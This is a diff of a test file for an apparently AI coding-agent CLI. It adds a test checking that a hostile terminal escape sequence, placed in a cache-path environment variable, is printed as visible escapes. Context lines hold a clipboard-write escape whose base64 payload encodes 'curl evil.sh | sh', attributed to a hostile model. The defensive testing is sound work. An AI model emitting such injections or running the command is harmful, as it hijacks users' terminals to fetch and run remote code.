@@ -14,6 +14,7 @@ pseudo-terminal in test_terminal_tui.py.
 from __future__ import annotations
 
 import json
+import os
 import re
 import subprocess
 import sys
@@ -130,6 +131,22 @@ def test_exec_transcript_from_a_hostile_model_and_repository_file_is_inert(repo,
         assert _unsafe_chars(text) == [], repr(text[:600])
     stdout = done.stdout.decode()
     assert "Done \\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07" in stdout  # shown, so the user sees the attempt
+
+
+def test_an_error_naming_a_hostile_path_from_the_environment_prints_it_as_escapes(tmp_path):
+    # the vocabulary error names the cache folder, which the environment chose: a title-setting sequence in
+    # it reached the terminal
+    hostile = str(tmp_path / "cache\x1b]0;pwned\x07\u202e")
+    env = {**os.environ, "GPTOSS_AGENT_CACHE_DIR": hostile}
+    subprocess.run(["git", "init", "-q"], cwd=tmp_path, check=True)
+    (tmp_path / "a.py").write_text("def a():\n    pass\n")
+    subprocess.run(["git", "add", "a.py"], cwd=tmp_path, check=True)
+    done = subprocess.run([sys.executable, "-m", "gptoss_agent.agent.frontends.cli", "map", "--cwd", str(tmp_path)],
+                          capture_output=True, timeout=60, env=env)
+    text = done.stdout.decode() + done.stderr.decode()
+    assert done.returncode != 0 and "vocabulary" in text
+    assert _unsafe_chars(text) == [], repr(text)
+    assert "\\x1b]0;pwned\\x07<U+202E>" in text
 
 
 def test_model_info_shows_hostile_gguf_metadata_as_escapes(tmp_path, vocab_dir):
